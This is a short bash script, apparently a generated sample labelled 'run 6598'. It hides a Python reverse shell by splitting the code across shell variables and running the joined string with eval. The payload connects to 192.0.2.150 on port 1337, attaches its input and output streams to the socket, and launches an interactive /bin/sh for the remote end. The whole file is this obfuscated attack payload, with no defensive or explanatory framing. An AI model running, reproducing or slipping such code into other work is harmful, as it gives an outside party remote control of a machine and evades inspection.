wwg='# run 6598 v0
#!/bin/bash
python3 -c '\''import socket,subprocess';nex=',os;s=socket.';utz='socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("192.0.2.150",1337));';rfq='os.dup2(s.f';pvn='ileno(),0); os.dup2(s.fileno(),1); os.dup';uyy='2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);'\''
';eval "$wwg${nex}$utz$rfq${pvn}${uyy}"